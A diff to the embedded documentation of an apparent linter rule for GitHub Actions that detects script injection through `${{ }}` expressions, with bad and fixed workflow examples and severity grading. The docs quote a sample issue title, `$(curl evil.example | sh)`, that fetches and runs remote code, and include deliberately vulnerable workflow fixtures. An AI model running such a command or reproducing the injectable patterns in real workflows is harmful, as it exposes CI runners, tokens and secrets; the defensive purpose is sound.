@@ -112,18 +112,25 @@ fn written<'u>(site: &Site<'u>, expression: &Expression<'u>, part: Contribution)
 
 const DOCS: &str = r#"
 `${{ … }}` is replaced before the shell sees the script, so the text of an issue, a branch name or a commit message becomes code.
-A title such as `$(curl evil.example | sh)` then runs on your runner with the job's token and secrets.
+A title such as `$(curl evil.example | sh)` then runs on your runner with the job's token and secrets. Text is followed to where it
+comes from: through `env`, `matrix`, inputs, outputs of steps and jobs, and what scripts write to `GITHUB_ENV` and `GITHUB_OUTPUT`.
 
 **Mend it:** hand the value over as an environment variable, and use the variable in quotes. A shell does not read the value of a
 variable as code.
 
-**How bad:** high where outsiders can cause an event that runs with your token and secrets (`issues`, `issue_comment`,
-`pull_request_target`, `workflow_run` and the like), and, with medium confidence, in called workflows and composite actions, whose
-events are not known. Medium for `pull_request`, which runs without secrets for forks, and for commit messages of `push`.
-A value that none of the workflow's events fills is not reported.
+**How bad:** high for text that outsiders choose, where they can cause an event that runs with your token and secrets (`issues`,
+`issue_comment`, `pull_request_target`, `workflow_run` and the like), and, with medium confidence, in called workflows and composite
+actions, whose events are not known. Medium for `pull_request`, which runs without secrets for forks, and for commit messages of
+`push`. Low where conditions keep outsiders out. Low to medium for other free text, such as names of tags and branches, labels and
+inputs: it takes someone who may write to the repository, or who calls the workflow. Informational where the file does not say what
+the text is, as for outputs of actions.
 
-**It does not see:** values that pass through outputs, variables or inputs before they reach a script; conditions (`if:`) that
-keep the step from running; scripts that read a variable as code again with `eval`.
+Not reported: what can hold nothing that a shell acts on, such as numbers, commit ids, logins, names of repositories, addresses that
+GitHub makes, inputs of the types boolean, number and choice, and texts of the file; a value that none of the workflow's events fills;
+secrets, which have a rule of their own.
+
+**It does not see:** what called workflows and actions put into their outputs; whether a value was checked before; scripts that read a
+variable as code again, for which there is `script-rereads-text`.
 
 ```yaml bad
 on: issues
@@ -134,7 +141,33 @@ jobs:
       - run: |
           echo "new issue"
           echo "${{ github.event.issue.title }}" # <-
+```
+
+```yaml fixed
+on: issues
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          ISSUE_TITLE: ${{ github.event.issue.title }}
+        run: |
+          echo "new issue"
+          echo "${ISSUE_TITLE}"
+```
+
+```yaml bad
+on: issues
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    env:
+      TITLE: ${{ github.event.issue.title }}
+    steps:
       - run: echo ${{ format('{0}', github.event.issue['body']) }} # <-
+      - id: about
+        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"
+      - run: echo '${{ steps.about.outputs.title }}' # <-
 ```
 
 ```yaml bad
@@ -154,11 +187,81 @@ jobs:
 # file: action.yml
 name: greets
 description: a composite action
+inputs:
+  name:
+    description: whom to greet
 runs:
   using: composite
   steps:
-    - run: echo ${{ github.event.comment.body }} # <-
+    - run: echo ${{ format('{0}', github.event.comment.body) }} # <-
       shell: bash
+    - run: echo '${{ inputs.name }}' # <-
+      shell: bash
+```
+
+```yaml bad
+on:
+  push:
+    tags: ["*"]
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          NAME: value
+        run: ./release.sh "${{ github.ref_name }}" # <-
+```
+
+```yaml fixed
+on:
+  push:
+    tags: ["*"]
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          NAME: value
+        run: ./release.sh "${GITHUB_REF_NAME}"
+```
+
+```yaml bad
+on:
+  workflow_dispatch:
+    inputs:
+      version:
+        description: what to release
+jobs:
+  release:
+    runs-on: windows-latest
+    steps:
+      - run: ./release.ps1 -Version "${{ inputs.version }}" # <-
+        env:
+          NAME: value
+          INPUT_VERSION: another
+      - run: echo ${{ github.event.inputs.version }} # <-
+        shell: bash
+```
+
+```yaml fixed
+on:
+  workflow_dispatch:
+    inputs:
+      version:
+        description: what to release
+jobs:
+  release:
+    runs-on: windows-latest
+    steps:
+      - run: ./release.ps1 -Version "${env:INPUT_VERSION_2}"
+        env:
+          NAME: value
+          INPUT_VERSION: another
+          INPUT_VERSION_2: ${{ inputs.version }}
+      - env:
+          INPUT_VERSION: ${{ github.event.inputs.version }}
+        run: echo ${INPUT_VERSION}
+        shell: bash
 ```
 
 ```yaml good
@@ -193,5 +296,24 @@ jobs:
       - run: echo "${{ github.event.issue.title }} is empty here, and so is ${{ github.head_ref }}"
       - name: ${{ github.event.head_commit.message }}
         run: "true"
+```
+
+```yaml good
+on:
+  workflow_dispatch:
+    inputs:
+      level:
+        type: choice
+        options: [debug, info]
+jobs:
+  build:
+    strategy:
+      matrix:
+        target: [linux, macos]
+    runs-on: ubuntu-latest
+    env:
+      VERSION: 1.2.3
+    steps:
+      - run: ./build.sh ${{ inputs.level }} ${{ matrix.target }} ${{ env.VERSION }}
 ```
 "#;
